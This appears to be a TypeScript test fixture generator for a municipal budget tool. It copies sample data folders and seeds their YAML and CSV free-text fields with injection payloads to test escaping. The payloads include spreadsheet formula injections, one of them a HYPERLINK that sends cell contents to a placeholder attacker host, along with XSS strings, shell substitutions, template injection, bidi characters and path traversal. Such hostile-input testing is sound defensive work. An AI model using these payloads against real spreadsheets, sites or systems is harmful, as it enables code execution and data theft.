import { appendFileSync, cpSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import { programRoot } from "../../src/cli/program-files.ts";
import { body, years } from "../answers/import/layouts.ts";

/** What each attack would call, were it run. */
export const called = "attacked";

/** How a free text may begin where a spreadsheet, a terminal or a reader of marks takes the beginning for more than text. */
const beginnings = [
	`=HYPERLINK("https://attack.invalid/?"&A1,"見る")`,
	"+1+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+9)*cmd|' /C calc'!A0",
	"\t=1+1",
	"# 見出し",
	"---",
	"| 表 | の |",
];

/** What follows: elements, marks of XML and Markdown, letters that turn a line round, and those a screen obeys. */
const rest = [
	`"'><img src=x onerror=${called}()>`,
	`</script><script>${called}()</script>`,
	"]]><x:evil/><!-- &amp; &lt; &#0; <?php ?>",
	`[押す](javascript:${called}()) ![](https://attack.invalid/x.png) \`code\` <b>`,
	"\u202e逆\u202c \u2066囲み\u2069 \u200b",
	"$(id) `id` %SystemRoot% {{7*7}}",
	"../../../etc/passwd C:\\Windows\\con.txt",
];

/** The attack that stands at the `at`-th free text. */
export function attack(at: number): string {
	return `${beginnings[at % beginnings.length]} ${rest[at % rest.length]} ${rest[(at * 3 + 1) % rest.length]}`;
}

const freeKeys = "title|description|reason|source|note|name|owner|office";
const freeColumns = /^(source|reason|owner|note|出典|説明|内容|担当|指標|理由|備考|名称|工程( R\d+)?)$/;

/** Himi's folder, that of a town and one with drivers, with an attack wherever a text is free: names, titles, reasons, sources, words of a register. */
export function makeHostile(folder: string): void {
	const from = { himi: "scenarios/himi", umino: "test/towns/umino", minato: "test/editions/minato" };
	let at = 0;
	for (const [city, place] of Object.entries(from)) {
		cpSync(join(programRoot, place), join(folder, city), { recursive: true });
		for (const name of readdirSync(join(folder, city), { recursive: true, encoding: "utf8" })) {
			const path = join(folder, city, name);
			// Measures know one another by their names.
			const keys = /measures/.test(name) ? freeKeys.replace("name|", "") : freeKeys;
			if (/\.ya?ml$/.test(name))
				writeFileSync(
					path,
					inYaml(readFileSync(path, "utf8"), keys, () => attack(at++)),
				);
			if (/\.csv$/.test(name) && !/editions/.test(name))
				writeFileSync(
					path,
					inTable(readFileSync(path, "utf8"), () => attack(at++)),
				);
		}
	}
	// A year that the next edition may settle.
	const settled = stringify([["R9", "市税", "4150", attack(at + 3)]], { quoted: true });
	appendFileSync(join(folder, "minato/settlements.csv"), settled);
	const head = ["区分", ...years.map((year) => `R${year}(推計)`)];
	const rows = [
		[attack(at)],
		head,
		...body((value) => value),
		[attack(at + 1), ...years.map(() => 1)],
		[attack(at + 2)],
	];
	writeFileSync(join(folder, "table.csv"), stringify(rows, { quoted: true }));
}

function inYaml(text: string, keys: string, next: () => string): string {
	const value = `(?:"(?:[^"\\\\]|\\\\.)*"|'[^']*'|(?<=^ *\\w+: +)[^\\s"'|>&*#{[][^\\n#]*|[^\\s"'{}\\[\\],|>&*#][^\\n,{}#]*)`;
	return text.replace(new RegExp(`(?<=^|[\\s{,-])(${keys}): +(${value})(?=[ ,}\\n]|$)`, "gm"), (_, key) => {
		// As YAML has it: what no text may hold as it is stands behind a backslash.
		return `${key}: ${JSON.stringify(next()).replaceAll("\u202e", "\\u202e")}`;
	});
}

function inTable(text: string, next: () => string): string {
	const rows = parse(text.replace(/^\uFEFF/, ""), { relax_column_count: true, skip_empty_lines: false }) as string[][];
	const header = rows.findIndex((row) => row.length > 3);
	const free = (rows[header] ?? []).map((name) => freeColumns.test(name));
	const made = rows.map((row, index) =>
		row.map((cell, column) => {
			const isFree = index > header ? free[column] : column === 1 && freeColumns.test(row[0] ?? "") && row.length < 4;
			return isFree && cell !== "" ? next() : cell;
		}),
	);
	return stringify(made, { quoted: true });
}
